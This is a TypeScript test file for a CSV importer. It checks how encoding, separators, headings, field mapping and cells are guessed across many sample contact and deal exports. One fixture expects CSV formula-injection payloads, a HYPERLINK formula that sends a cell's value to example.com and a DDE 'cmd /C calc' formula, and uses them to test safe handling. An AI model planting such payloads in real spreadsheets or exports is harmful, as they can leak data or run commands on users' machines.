/**
 * Every table of `testdata` and the synthetic firm: how it lies, what it fills, and cells letter
 * by letter.
 */
import { readFileSync } from 'node:fs'
import { Readable } from 'node:stream'
import { fileURLToPath } from 'node:url'
import iconv from 'iconv-lite'
import { expect, test } from 'vitest'
import { guessTable, sampleOf } from './guess.ts'
import { guessMapping } from './mapping.ts'
import { readTable, type TableRow } from './read.ts'

interface Expected {
  file: string
  encoding: string
  separator: string
  headingLine: number
  columns: number
  subject: string
  /** Column number, from 1, and target; all other columns fill nothing. */
  targets: Record<number, string>
  good: number
  /** Line and code of each bad row. */
  bad?: [number, string][]
  /** Line, column, text. */
  cells: [number, number, string][]
}

const spread = (from: number, ...names: string[]) =>
  Object.fromEntries(names.map((name, at) => [from + at, name]))

/** A classic of so many columns that fill nothing. */
const classic = (
  file: string,
  columns: number,
  good: number,
  cells: Expected['cells'],
  more: Partial<Expected> = {},
): Expected => ({
  file: `csv/${file}.csv`,
  encoding: 'utf-8',
  separator: ',',
  headingLine: 1,
  columns,
  subject: 'unknown',
  targets: {},
  good,
  cells,
  ...more,
})
const spectrum = (name: string, ...rest: [number, number, Expected['cells'], Partial<Expected>?]) =>
  classic(`csv-spectrum/csvs/${name}`, ...rest)
const once: Expected['cells'] = [
  [2, 1, '1'],
  [2, 2, '2'],
  [2, 3, '3'],
]
const letters: Expected['cells'] = [
  [2, 1, 'X'],
  [2, 2, 'Y'],
  [2, 3, 'Z'],
]

const classics: Expected[] = [
  spectrum(
    'comma_in_quotes',
    5,
    1,
    [
      [2, 3, '120 any st.'],
      [2, 4, 'Anytown, WW'],
      [2, 5, '08123'],
    ],
    { targets: spread(3, 'client.street', 'client.town', 'client.postalCode') },
  ),
  ...['empty', 'empty_crlf'].map((name) =>
    spectrum(name, 3, 2, [
      [2, 2, ''],
      [2, 3, ''],
      [3, 3, '4'],
    ]),
  ),
  spectrum('escaped_quotes', 2, 2, [
    [2, 1, '1'],
    [2, 2, 'ha "ha" ha'],
    [3, 2, '4'],
  ]),
  spectrum('json', 2, 1, [
    [2, 1, '1'],
    [2, 2, '{"type": "Point", "coordinates": [102.0, 0.5]}'],
  ]),
  spectrum('location_coordinates', 4, 0, [], {
    targets: { 1: 'client.phones' },
    bad: [[2, 'rowIsUnreadable']],
  }),
  ...['\n', '\r\n'].map((end) =>
    spectrum(end === '\n' ? 'newlines' : 'newlines_crlf', 3, 3, [
      [3, 1, `Once upon ${end}a time`],
      [3, 3, '6'],
      [5, 1, '7'],
    ]),
  ),
  spectrum('quotes_and_newlines', 2, 2, [
    [2, 2, 'ha \n"ha" \nha'],
    [5, 1, '3'],
    [5, 2, '4'],
  ]),
  spectrum('simple', 3, 1, once),
  spectrum('simple_crlf', 3, 1, once),
  spectrum('utf8', 3, 2, [...once, [3, 3, 'ʤ']]),
  classic('papaparse/sample', 3, 1, letters),
  classic('papaparse/utf-8-bom-sample', 3, 1, letters),
  classic(
    'papaparse/sample-header',
    2,
    2,
    [
      [2, 1, 'test title 01'],
      [3, 1, ''],
      [3, 2, 'test name 02'],
    ],
    { targets: { 2: 'client.name' } },
  ),
  classic(
    'atomic-crm/contacts-template',
    18,
    2,
    [
      [2, 10, 'influencer, developer'],
      [2, 17, '740.645.3807'],
      [3, 15, 'jane@doe.example'],
    ],
    {
      subject: 'both',
      targets: {
        ...spread(1, 'person.firstName', 'person.lastName'),
        ...spread(4, 'position.title', 'person.remarks'),
        10: 'client.labels',
        ...spread(12, 'client.name', 'person.mails', 'person.mails', 'person.mails'),
        ...spread(16, 'person.phones', 'person.phones', 'person.phones'),
      },
    },
  ),
]

const files: Expected[] = [
  {
    file: 'csv/exports/kontrahenci-pl-1250.csv',
    encoding: 'windows-1250',
    separator: ';',
    headingLine: 1,
    columns: 12,
    subject: 'both',
    targets: {
      ...spread(1, 'client.name', 'client.province', 'client.town', 'client.street', 'client.postalCode'),
      ...spread(6, 'person.name', 'client.phones', 'person.phones', 'client.website'),
      ...spread(11, 'client.taxNumber', 'client.regon'),
    },
    good: 5,
    cells: [
      [2, 1, 'Zakłady Młynarskie „Żytko” sp. z o.o.'],
      [5, 1, 'Firma "Cudzysłów; Średnik", Przecinek'],
      [4, 8, '0048 603 456 789'],
      [6, 12, '876634404'],
    ],
  },
  {
    file: 'csv/exports/1c-kontragenty-ru.csv',
    encoding: 'windows-1251',
    separator: ';',
    headingLine: 1,
    columns: 11,
    subject: 'both',
    targets: {
      ...spread(1, 'client.shortName', 'client.name', 'client.taxNumber', 'client.kpp'),
      ...spread(6, 'person.name', 'client.phones', 'client.mails'),
      11: 'client.bankAccounts',
    },
    good: 3,
    cells: [
      [2, 1, 'ООО «Ёлочка»'],
      [4, 2, 'АО "Съёмка; Монтаж"'],
      [4, 7, '(812) 555-03-40 доб. 7'],
    ],
  },
  {
    file: 'csv/exports/amocrm-deals.csv',
    encoding: 'utf-8',
    separator: ';',
    headingLine: 1,
    columns: 16,
    subject: 'deals',
    targets: spread(12, 'person.name', 'person.phones', 'person.phones', 'person.mails', 'client.name'),
    good: 3,
    cells: [
      [2, 1, '100'],
      [2, 13, "'+7 (495) 555-01-20"],
      [4, 16, 'АО "Съёмка; Монтаж"'],
    ],
  },
  {
    file: 'csv/exports/hubspot-deals.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 8,
    subject: 'deals',
    targets: {},
    good: 3,
    cells: [
      [2, 2, 'Żytko – młyn'],
      [3, 7, '9002;9999'],
      [4, 7, 'PHU Ćwiek i Synowie s.c.'],
    ],
  },
  {
    file: 'csv/exports/pipedrive-sample-import.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 18,
    subject: 'deals',
    targets: {
      ...spread(2, 'person.firstName', 'person.lastName', 'person.phones', 'person.mails', 'person.mails'),
      ...spread(7, 'client.name', 'client.street'),
    },
    good: 1,
    cells: [
      [2, 1, 'Tony Turner'],
      [2, 8, '5, 943 Fincham Road, New Mexico 87503, US'],
      [2, 13, '<b>HTML</b> note'],
    ],
  },
  {
    file: 'csv/exports/excel-sep-line.csv',
    encoding: 'windows-1250',
    separator: ';',
    headingLine: 2,
    columns: 2,
    subject: 'clients',
    targets: spread(1, 'client.name', 'client.taxNumber'),
    good: 1,
    cells: [
      [3, 1, 'Ćwiek'],
      [3, 2, '4565681516'],
    ],
  },
  {
    file: 'csv/exports/excel-unicode-text.txt',
    encoding: 'utf-16le',
    separator: '\t',
    headingLine: 1,
    columns: 5,
    subject: 'clients',
    targets: { 1: 'client.name', 2: 'client.taxNumber', 5: 'client.phones' },
    good: 6,
    cells: [
      [2, 3, '1 234,56 zł'],
      [3, 2, '8,56735E+09'],
      [4, 5, "'0601234567"],
    ],
  },
  {
    file: 'csv/exports/formula-injection.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 5,
    subject: 'both',
    targets: spread(1, 'person.firstName', 'person.lastName', 'person.mails', 'person.phones', 'client.name'),
    good: 2,
    cells: [
      [2, 1, '=HYPERLINK("http://example.com/?"&A1,"x")'],
      [2, 2, "@SUM(1+1)*cmd|' /C calc'!A0"],
      [3, 1, '\t=1+1'],
      [3, 2, '\r=1+1'],
    ],
  },
  {
    file: 'csv/exports/google-contacts-2024.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 36,
    subject: 'both',
    targets: {
      ...spread(1, 'person.firstName', 'person.firstName', 'person.lastName'),
      7: 'person.salutation',
      ...spread(11, 'client.name', 'position.title', 'position.unit', 'person.birthday'),
      15: 'person.remarks',
      17: 'client.labels',
      19: 'person.mails',
      21: 'person.mails',
      23: 'person.phones',
      25: 'person.phones',
      ...spread(28, 'client.street', 'client.town'),
      ...spread(31, 'client.province', 'client.postalCode', 'client.country'),
      36: 'client.website',
    },
    good: 6,
    cells: [
      [2, 15, 'Linia pierwsza\nLinia "druga", z przecinkiem\n\nLinia czwarta 🙂'],
      [8, 11, 'PHU Ćwiek i Synowie s.c.'],
      [20, 1, 'Ольга'],
    ],
  },
  {
    file: 'csv/exports/hubspot-contacts.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 12,
    subject: 'both',
    targets: {
      ...spread(
        1,
        'person.externalId',
        'person.firstName',
        'person.lastName',
        'person.mails',
        'person.phones',
      ),
      ...spread(6, 'person.phones', 'position.title', 'client.name', 'client.owner'),
    },
    good: 5,
    cells: [
      [2, 3, 'Brzęczyszczykiewicz'],
      [4, 5, '61 555 02 30 wew. 12'],
      [5, 3, 'O’Hara'],
    ],
  },
  {
    file: 'csv/exports/outlook-pl.csv',
    encoding: 'windows-1250',
    separator: ',',
    headingLine: 1,
    columns: 92,
    subject: 'both',
    targets: {
      1: 'person.salutation',
      ...spread(2, 'person.firstName', 'person.firstName', 'person.lastName'),
      6: 'client.name',
      7: 'position.unit',
      8: 'position.title',
      ...spread(9, 'client.street', 'client.street', 'client.street', 'client.town'),
      ...spread(13, 'client.province', 'client.postalCode', 'client.country'),
      ...spread(32, 'person.phones', 'person.phones'),
      ...spread(35, 'person.phones', 'client.phones'),
      ...spread(38, 'person.phones', 'person.phones'),
      41: 'person.phones',
      43: 'person.phones',
      45: 'person.phones',
      49: 'person.mails',
      52: 'person.mails',
      55: 'person.mails',
      68: 'client.labels',
      73: 'person.remarks',
      85: 'client.website',
      86: 'person.birthday',
    },
    good: 5,
    cells: [
      [2, 6, 'Zakłady Młynarskie "Żytko" sp. z o.o.'],
      [3, 73, 'Zażółć gęślą jaźń'],
      [5, 4, "O'Hara"],
    ],
  },
  {
    file: 'csv/exports/outlook-ru.csv',
    encoding: 'windows-1251',
    separator: ',',
    headingLine: 1,
    columns: 92,
    subject: 'both',
    targets: {
      1: 'person.salutation',
      ...spread(2, 'person.firstName', 'person.firstName', 'person.lastName'),
      6: 'client.name',
      7: 'position.unit',
      8: 'position.title',
      ...spread(9, 'client.street', 'client.street', 'client.street', 'client.town'),
      ...spread(13, 'client.province', 'client.postalCode', 'client.country'),
      ...spread(32, 'person.phones', 'person.phones'),
      ...spread(35, 'person.phones', 'client.phones'),
      ...spread(38, 'person.phones', 'person.phones'),
      41: 'person.phones',
      43: 'person.phones',
      45: 'person.phones',
      50: 'client.website',
      54: 'person.remarks',
      57: 'client.labels',
      79: 'client.bankAccounts',
      83: 'person.mails',
      86: 'person.mails',
      89: 'person.mails',
      52: 'person.birthday',
    },
    good: 3,
    cells: [
      [2, 9, 'ул. Вавилова, д. 19, стр. 2'],
      [3, 4, 'Жуков-Подъячев'],
      [4, 6, 'АО "Съёмка; Монтаж"'],
    ],
  },
  {
    file: 'csv/exports/ragged.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 3,
    subject: 'unknown',
    targets: {},
    good: 2,
    bad: [[3, 'rowHasTooManyCells']],
    cells: [
      [2, 2, '2'],
      [2, 3, ''],
      [6, 3, '3'],
    ],
  },
  {
    file: 'csv/atomic-crm/contacts-500.csv',
    encoding: 'utf-8',
    separator: ',',
    headingLine: 1,
    columns: 24,
    subject: 'both',
    targets: {
      ...spread(1, 'person.externalId', 'person.firstName', 'person.lastName'),
      ...spread(5, 'position.title', 'person.remarks'),
      ...spread(11, 'client.labels', 'position.clientExternalId'),
      15: 'client.name',
      18: 'client.owner',
      ...spread(19, 'person.mails', 'person.mails', 'person.mails'),
      ...spread(22, 'person.phones', 'person.phones', 'person.phones'),
    },
    good: 500,
    cells: [
      [2, 23, '1-955-371-0847 x371'],
      [5, 15, 'Brekke, Dietrich and Klein'],
      [4, 24, ''],
    ],
  },
  {
    file: 'datasets/synthetic-pl/kontrahenci.csv',
    encoding: 'utf-8',
    separator: ';',
    headingLine: 1,
    columns: 15,
    subject: 'clients',
    targets: {
      ...spread(1, 'client.externalId', 'client.name', 'client.country', 'client.taxNumber', 'client.euVat'),
      ...spread(6, 'client.regon', 'client.krs', 'client.taxNumber', 'client.kpp', 'client.street'),
      ...spread(
        11,
        'client.postalCode',
        'client.town',
        'client.phones',
        'client.mails',
        'client.bankAccounts',
      ),
    },
    good: 300,
    cells: [
      [3, 2, 'Iwański-Drozd sp. k.'],
      [9, 12, 'Аршан (Бурят.)'],
      [11, 12, 'Fürth'],
    ],
  },
  {
    file: 'datasets/synthetic-pl/kontakty.csv',
    encoding: 'utf-8',
    separator: ';',
    headingLine: 1,
    columns: 7,
    subject: 'people',
    targets: {
      ...spread(1, 'person.externalId', 'position.clientExternalId', 'person.firstName', 'person.lastName'),
      ...spread(5, 'position.title', 'person.phones', 'person.mails'),
    },
    good: 424,
    cells: [
      [3, 4, 'Bąk'],
      [425, 3, 'Синклитикия'],
      [425, 6, '(990)077-03-03'],
    ],
  },
  {
    file: 'datasets/synthetic-pl/towary.csv',
    encoding: 'utf-8',
    separator: ';',
    headingLine: 1,
    columns: 5,
    subject: 'unknown',
    targets: { 2: 'client.name' },
    good: 120,
    cells: [[2, 3, 'usł.']],
  },
]

test.each([...files, ...classics])(
  '$file',
  async ({ file, cells, bad = [], good, subject, targets, ...shape }) => {
    const path = fileURLToPath(new URL(`../../../../../testdata/${file}`, import.meta.url))
    const guess = guessTable(await sampleOf(path))
    if ('problem' in guess) throw new Error(guess.problem.code)
    expect(guess.shape).toEqual({ ...shape, quote: '"' })
    expect(guess.confidence.encoding).toBeGreaterThan(0.7)

    const mapping = guessMapping(guess.headings, guess.sample)
    expect(mapping.subject).toBe(subject)
    const deals = Object.keys(targets).length > 0 ? 'fileHoldsDeals' : 'fileHoldsDealsOnly'
    expect(mapping.notice?.code).toBe(subject === 'deals' ? deals : undefined)
    expect(mapping.targets).toEqual(guess.headings.map((_, at) => targets[at + 1] ?? null))

    const rows: TableRow[] = []
    for await (const row of readTable(path, guess.shape)) rows.push(row)
    expect(rows.flatMap(({ line, problem }) => (problem ? [[line, problem.code]] : []))).toEqual(bad)
    expect(rows.length - bad.length).toBe(good)
    for (const [line, column, text] of cells) {
      const row = rows.find((each) => each.line === line)
      expect([line, column, row && !row.problem && row.cells[column - 1]]).toEqual([line, column, text])
      expect(row && !row.problem && row.cells.length).toBe(shape.columns)
    }
  },
)

test('csv/exports/empty.csv is empty', async () => {
  const path = fileURLToPath(new URL('../../../../../testdata/csv/exports/empty.csv', import.meta.url))
  expect(guessTable(await sampleOf(path))).toEqual({ problem: { code: 'fileIsEmpty', params: {} } })
})

test.each([
  ['windows-1250', ';'],
  ['windows-1250', ','],
  ['iso-8859-2', '|'],
  ['utf-16le', '\t'],
] as const)(
  'the Polish rows of the synthetic firm in %s with "%s" are the same',
  async (encoding, separator) => {
    const path = fileURLToPath(
      new URL('../../../../../testdata/datasets/synthetic-pl/kontrahenci.csv', import.meta.url),
    )
    const table = readFileSync(path, 'utf8')
      .trim()
      .split('\n')
      .map((line) => line.split(';'))
    const polish = table.filter(([id, , country]) => id === 'id' || country === 'PL')
    const written = polish.map((row) => row.map((cell) => `"${cell}"`).join(separator)).join('\r\n')
    const head = iconv.encode(written, encoding, { addBOM: true })
    const guess = guessTable({ head, whole: true })
    if ('problem' in guess) throw new Error(guess.problem.code)
    expect(guess.shape).toEqual({ encoding, separator, quote: '"', headingLine: 1, columns: 15 })
    const rows: unknown[] = []
    for await (const row of readTable(Readable.from([head]), guess.shape)) rows.push(row.problem ?? row.cells)
    expect(rows).toEqual(polish.slice(1))
  },
)
